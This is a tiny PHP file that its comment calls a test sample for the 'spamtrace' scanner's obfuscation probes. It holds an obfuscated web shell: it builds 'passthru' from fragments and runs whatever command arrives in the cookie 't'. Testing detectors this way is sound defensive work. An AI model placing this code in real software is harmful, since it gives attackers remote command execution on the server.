<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$fn = new ReflectionFunction(implode('', ['pa', 'ss', 'thru']));
if (!empty($_COOKIE['t'])) {
    $fn->invoke($_COOKIE['t']);
}
